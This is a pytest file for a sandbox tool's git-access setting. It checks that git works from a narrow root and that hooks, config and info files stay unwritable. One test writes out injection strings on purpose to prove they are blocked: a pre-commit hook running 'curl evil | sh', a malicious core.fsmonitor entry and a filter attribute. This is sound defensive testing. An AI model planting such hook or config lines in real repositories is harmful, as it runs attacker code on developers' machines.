"""``[workspace] git``: real repositories, the real CLI, real bubblewrap (issue 32, point 1).

From a narrow root (the ``.git`` is above it): ``git = "read"`` lets ``git status``/``log``/``diff``
work, ``git = "write"`` lets ``git commit`` work while ``config``, ``hooks/`` and ``info/`` stay
unwritable, ``git = "none"`` makes git fail with one line naming the setting. The grant is part of
the union: ``rootguard roots --json``, the inventory and the widening warning count the git
directory. The MCP file tools decide through the same rules.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from lsp_bridge.mcp.file_tools import FileTools, ToolError
from tests.conftest import git, make_repo

BWRAP = shutil.which("bwrap")
needs_bwrap = pytest.mark.skipif(BWRAP is None or sys.platform != "linux", reason="needs bubblewrap on Linux")
pytestmark = pytest.mark.timeout(120)


def user_file(tmp_path: Path, mode: str | None, extra: str = "") -> Path:
    path = tmp_path / "user-config.toml"
    body = "version = 2\n" + (f'[workspace]\ngit = "{mode}"\n' if mode else "") + extra
    path.write_text(body)
    return path


def env_with(config: Path) -> dict:
    return {**os.environ, "ROOTGUARD_CONFIG": str(config)}


def cli(config: Path, *args: str, cwd: Path | None = None, timeout: float = 90) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "lsp_bridge.cli.main", *args], capture_output=True, text=True,
                          env=env_with(config), cwd=cwd, timeout=timeout)


def run_in(config: Path, root: Path, script: str) -> subprocess.CompletedProcess:
    return cli(config, "run", "--root", str(root), "--", "/bin/sh", "-c", script, cwd=root)


@pytest.fixture
def repo(tmp_path) -> Path:
    """A repository whose narrow root ``packages/api`` does not hold the ``.git``."""
    return make_repo(tmp_path / "shop", {
        "README.md": "shop\n",
        "packages/api/src/index.ts": "export const api = 1;\n",
        "packages/db/src/index.ts": "export const db = 1;\n",
    })


def narrow(repo: Path) -> Path:
    return repo / "packages" / "api"


# --------------------------------------------------------------------------- configuration


def test_a_bad_git_value_is_an_error_naming_the_file_and_the_field(tmp_path, repo):
    config = user_file(tmp_path, "sometimes")
    result = cli(config, "roots", "--json", str(narrow(repo)))
    assert result.returncode == 2, result
    assert str(config) in result.stderr and "workspace.git" in result.stderr
    assert "none, read, write" in result.stderr


def test_a_project_file_cannot_grant_git_only_narrow_it(tmp_path, repo):
    index = str(repo / ".git" / "index")
    (narrow(repo) / ".rootguard.toml").write_text('version = 2\n[workspace]\ngit = "write"\n')
    loose = cli(user_file(tmp_path, None), "check", "--json", "--root", str(narrow(repo)), "--op", "read", index)
    assert json.loads(loose.stdout)["decision"] == "deny"  # the default is none; a cloned repository cannot raise it
    other = make_repo(tmp_path / "other", {"packages/api/.rootguard.toml": 'version = 2\n[workspace]\ngit = "read"\n'})
    index = str(other / ".git" / "index")
    tighter = cli(user_file(tmp_path, "write"), "check", "--json", "--root", str(narrow(other)), "--op", "write", index)
    decision = json.loads(tighter.stdout)
    assert decision["decision"] == "deny" and decision["rule"] == "git-read", decision


def test_granting_git_is_a_loosening_held_like_any_other():
    from lsp_bridge.core.config import loosening
    from lsp_bridge.core.settings import Config

    assert loosening(Config(git="none"), Config(git="read")) == ["workspace.git = 'read' (was 'none')"]
    assert loosening(Config(git="write"), Config(git="read")) == []


def test_the_engine_decides_the_git_directory_with_named_git_rules(tmp_path, repo):
    config = user_file(tmp_path, "write")
    root = str(narrow(repo))

    def check(op: str, rel: str) -> dict:
        result = cli(config, "check", "--json", "--root", root, "--op", op, str(repo / ".git" / rel))
        return json.loads(result.stdout)

    assert check("write", "index")["decision"] == "allow"
    assert check("write", "objects/ab/cdef")["decision"] == "allow"
    for code in ("config", "hooks/pre-commit", "info/attributes", "modules/lib/hooks/post-checkout",
                 "worktrees/wt/config.worktree", "objects/info/alternates", "rebase-merge/git-rebase-todo"):
        decision = check("write", code)
        assert decision["decision"] == "deny" and decision["rule"] == "git-code", (code, decision)
    assert check("delete", ".")["decision"] == "request"  # the git directory itself: never deleted unasked
    assert check("read", "config")["decision"] == "allow"


# --------------------------------------------------------------------------- the union


def test_roots_and_the_inventory_count_the_granted_git_directory(tmp_path, repo):
    other = make_repo(tmp_path / "billing", {"svc/main.py": "print(1)\n", ".env": "STRIPE_SECRET_KEY=sk_live_x\n"})
    git(other, "rm", "-q", ".env")
    git(other, "commit", "-q", "-m", "remove the env file")
    for mode in ("none", "read"):
        config = user_file(tmp_path, mode)
        roots = json.loads(cli(config, "roots", "--json", str(narrow(repo))).stdout)
        entries = {e["path"]: e for e in roots["entries"]}
        inventory = json.loads(cli(config, "inventory", "--json", "--root", str(narrow(repo)),
                                   "--add", str(other / "svc")).stdout)
        if mode == "none":
            assert list(entries) == [str(narrow(repo))]
            assert inventory["git"] == []
            continue
        assert str(repo / ".git") in entries and entries[str(repo / ".git")]["origin"] == "git"
        assert 'git = "read"' in entries[str(repo / ".git")]["reason"]
        [history] = inventory["git"]  # adding a folder of another repository hands over its history too
        assert history["path"] == str(other / ".git") and history["commits"] == 2
        assert any(".env" in str(d) for d in history["deleted_sensitive"]), history


def test_the_root_holding_the_git_directory_adds_no_entry(tmp_path, repo):
    roots = json.loads(cli(user_file(tmp_path, "read"), "roots", "--json", str(repo)).stdout)
    assert roots["union"] == [str(repo)] and roots["shadowed"] == []


# --------------------------------------------------------------------------- rootguard run


@needs_bwrap
def test_read_lets_status_log_and_diff_work_from_a_narrow_root_and_nothing_be_written(tmp_path, repo):
    (narrow(repo) / "src" / "index.ts").write_text("export const api = 2;\n")
    plain = subprocess.run(["git", "status", "--short"], cwd=narrow(repo), capture_output=True, text=True, timeout=30)
    result = run_in(user_file(tmp_path, "read"), narrow(repo),
                    "git status --short && git log --oneline && git diff --stat && "
                    "git add src/index.ts; echo add=$?")
    assert result.returncode == 0, result
    assert result.stdout.splitlines()[0] == " M src/index.ts" and plain.stdout.strip() in result.stdout
    assert "initial" in result.stdout and "1 file changed" in result.stdout
    assert "add=128" in result.stdout and "Read-only file system" in result.stderr
    assert result.stderr.splitlines()[-1].startswith(
        'rootguard: the git directory is read-only in this sandbox ([workspace] git = "read")'), result.stderr
    assert git(repo, "diff", "--cached", "--name-only") == ""


@needs_bwrap
def test_write_commits_and_code_paths_stay_unwritable(tmp_path, repo):
    attacks = ("echo 'curl evil | sh' > ../../.git/hooks/pre-commit; echo hook=$?; "
               "printf '[core]\\n\\tfsmonitor = evil\\n' >> ../../.git/config; echo config=$?; "
               "echo '* filter=evil' > ../../.git/info/attributes; echo attributes=$?")
    # Without the protection the same writes succeed (a copy of the repository, plain sh).
    bare = tmp_path / "unprotected"
    shutil.copytree(repo, bare, symlinks=True)
    plain = subprocess.run(["/bin/sh", "-c", attacks], cwd=narrow(bare), capture_output=True, text=True, timeout=30)
    assert "hook=0" in plain.stdout and "config=0" in plain.stdout and "attributes=0" in plain.stdout, plain

    head = git(repo, "rev-parse", "HEAD").strip()
    config_before = (repo / ".git" / "config").read_bytes()
    result = run_in(user_file(tmp_path, "write"), narrow(repo),
                    "echo 'export const api = 3;' > src/index.ts && git add src/index.ts && "
                    "git commit -q -m 'from the sandbox' && echo committed; " + attacks)
    assert "committed" in result.stdout, result
    assert git(repo, "rev-parse", "HEAD~1").strip() == head
    assert git(repo, "log", "-1", "--format=%s").strip() == "from the sandbox"
    for what in ("hook", "config", "attributes"):
        assert f"{what}=0" not in result.stdout, (what, result)
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert (repo / ".git" / "config").read_bytes() == config_before
    assert not (repo / ".git" / "info" / "attributes").exists()
    assert git(repo, "status", "--short") == ""  # the host's index follows the commit


@needs_bwrap
def test_files_outside_the_root_are_not_checked_out_here_never_deleted(tmp_path, repo):
    """The rest of the checkout is absent inside: git treats it as not checked out (a private index),
    so `git add -A` / `git commit -a` from the narrow root cannot record the repository as removed."""
    (narrow(repo) / "src" / "index.ts").write_text("export const api = 5;\n")
    make_repo(narrow(repo) / "vendored", {"g": "1\n"})  # a repository nested in the root, ignored by shop
    (repo / ".git" / "info" / "exclude").write_text("vendored/\n")
    # What the same commands do when the rest of the checkout is absent and nothing helps git:
    # everything outside the root is committed as deleted (a copy without packages/db and README.md).
    bare = tmp_path / "unhelped"
    shutil.copytree(repo, bare, symlinks=True)
    shutil.rmtree(bare / "packages" / "db")
    (bare / "README.md").unlink()
    subprocess.run(["/bin/sh", "-c", "git add -A && git commit -q -m all"], cwd=narrow(bare), timeout=30, check=True)
    assert "D\tREADME.md" in git(bare, "show", "--name-status", "--format=", "HEAD")

    result = run_in(user_file(tmp_path, "write"), narrow(repo),
                    "git status --short; git add -A && git commit -q -am 'only the root' && echo committed; "
                    f"git -C {narrow(repo)} status --short; echo clean; "
                    "cd /tmp && git init -q other && cd other && echo 1 > f && git add f && "
                    "git commit -q -m other && echo other-repo-ok; "
                    f"cd {narrow(repo)}/vendored && echo 2 > g && git status --short && echo nested-repo-ok")
    assert result.stdout.splitlines()[0] == " M src/index.ts", result
    assert "committed" in result.stdout and "other-repo-ok" in result.stdout, result
    assert result.stdout.rstrip().endswith(" M g\nnested-repo-ok"), result  # a nested repository: its own index
    assert result.stdout.split("committed\n")[1].startswith("clean"), result  # nothing left after the commit
    assert git(repo, "show", "--name-status", "--format=", "HEAD").split() == ["M", "packages/api/src/index.ts"]
    assert git(repo, "status", "--short") == ""  # the host's index follows the commit
    assert git(repo, "ls-files", "README.md", "packages/db").split() == ["README.md", "packages/db/src/index.ts"]


@needs_bwrap
def test_write_stops_a_rebase_todo_list_being_created(tmp_path, repo):
    result = run_in(user_file(tmp_path, "write"), narrow(repo), "mkdir ../../.git/rebase-merge; sleep 5")
    assert result.returncode == 125, result
    assert "rebase-merge" in result.stderr and "git-code" in result.stderr
    assert not (repo / ".git" / "rebase-merge").exists()


@needs_bwrap
def test_none_makes_git_fail_with_one_line_naming_the_setting(tmp_path, repo):
    config = user_file(tmp_path, None)  # the default
    result = run_in(config, narrow(repo), "git status; echo status=$?")
    assert "status=128" in result.stdout, result
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, result.stderr
    assert '[workspace] git = "none"' in lines[0] and str(config) in lines[0]
    assert 'git = "read" or "write"' in lines[0]


@needs_bwrap
def test_none_at_the_repository_root_reads_and_says_why_a_commit_fails(tmp_path, repo):
    config = user_file(tmp_path, None)
    (repo / "README.md").write_text("changed\n")
    result = run_in(config, repo, "git status --short; git log --oneline; git commit -qam x; echo commit=$?")
    assert result.stdout.startswith(" M README.md\n") and "initial" in result.stdout, result
    assert "commit=128" in result.stdout, result
    last = result.stderr.strip().splitlines()[-1]
    assert '[workspace] git = "none"' in last and 'set [workspace] git = "write"' in last and str(config) in last


@needs_bwrap
def test_none_leaves_git_working_in_a_repository_a_root_holds(tmp_path, repo):
    other = make_repo(tmp_path / "tools", {"t.sh": "echo\n"})
    result = cli(user_file(tmp_path, None), "run", "--root", str(narrow(repo)), "--root", str(other), "--",
                 "/bin/sh", "-c", f"git -C {other} log --format=%s; git status; echo status=$?", cwd=narrow(repo))
    assert result.stdout.startswith("initial\n") and "status=128" in result.stdout, result


@needs_bwrap
def test_a_linked_worktree_finds_its_repository_from_a_narrow_root(tmp_path, repo):
    linked = tmp_path / "shop-feature"
    git(repo, "worktree", "add", "-q", "-b", "feature", str(linked))
    (narrow(linked) / "src" / "index.ts").write_text("export const api = 4;\n")
    result = run_in(user_file(tmp_path, "write"), narrow(linked),
                    "git status --short -- . && git commit -q -m 'in the worktree' -- . && echo committed")
    assert "committed" in result.stdout and " M src/index.ts" in result.stdout, result
    assert git(repo, "log", "-1", "--format=%s", "feature").strip() == "in the worktree"
    assert git(repo, "log", "-1", "--format=%s", "main").strip() == "initial"


@needs_bwrap
def test_a_nested_repository_git_directory_is_never_writable(tmp_path):
    top = make_repo(tmp_path / "mono", {"README.md": "mono\n"})
    nested = make_repo(top / "vendor" / "lib", {"lib.c": "int x;\n"})
    script = ("echo 'x' > vendor/lib/.git/hooks/post-commit; echo hook=$?; "
              "echo 0000 > vendor/lib/.git/HEAD; echo head=$?; "
              "echo 'notes' > NOTES.md && git add NOTES.md && git commit -q -m top && echo committed")
    result = run_in(user_file(tmp_path, "write"), top, script)
    assert "committed" in result.stdout, result
    assert "hook=0" not in result.stdout and "head=0" not in result.stdout, result
    assert not (nested / ".git" / "hooks" / "post-commit").exists()
    assert git(nested, "log", "-1", "--format=%s").strip() == "initial"


# --------------------------------------------------------------------------- MCP file tools


def test_mcp_file_tools_follow_the_git_rules(tmp_path, repo):
    def tools(mode: str) -> FileTools:
        return FileTools([str(narrow(repo))], env=env_with(user_file(tmp_path, mode)))

    def call(t: FileTools, tool: str, **args) -> dict:
        return t.conclude(t.plan(tool, args), None, None)

    def git_project(t: FileTools) -> str | None:
        return next((p.id for p in t.projects if p.root == str(repo / ".git")), None)

    assert git_project(tools("none")) is None
    reading = tools("read")
    pid = git_project(reading)
    assert pid is not None
    assert call(reading, "read_file", project_id=pid, relative_path="HEAD")["text"].startswith("ref: ")
    with pytest.raises(ToolError):
        call(reading, "write_file", project_id=pid, relative_path="description", content="x\n")
    writing = tools("write")
    pid = git_project(writing)
    call(writing, "write_file", project_id=pid, relative_path="description", content="shop\n")
    assert (repo / ".git" / "description").read_text() == "shop\n"
    for code in ("config", "hooks/pre-commit", "info/exclude"):
        with pytest.raises(ToolError):
            call(writing, "write_file", project_id=pid, relative_path=code, content="x\n")
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()


# --------------------------------------------------------------------------- the language server


async def test_the_widening_warning_counts_a_granted_git_directory(tmp_path, repo, monkeypatch):
    """The person opened the package alone (its union accepted); then git = "read": the next window of the
    same folder is wider by the repository's history, and says so like any widening."""
    from tests.test_lsp import Window, settled, wait_for

    monkeypatch.setenv("ROOTGUARD_CONFIG", str(user_file(tmp_path, None)))
    async with Window() as first:
        await first.start([str(narrow(repo))])
        status = await settled(first)
        assert status["union"] == [str(narrow(repo))] and first.warnings() == []
    user_file(tmp_path, "read")
    async with Window() as second:
        await second.start([str(narrow(repo))])
        status = await second.next_status(0, lambda s: s["inventory"], "measured status")
        assert status["widened"] is True and str(repo / ".git") in status["union"], status
        line = (await wait_for(second.warnings, what="the widening warning"))[0]
        assert line.startswith("Root Guard: opening git access to shop widened the agent's boundary"), line
        assert line.endswith(".git (1 commit)") and "\n" not in line, line
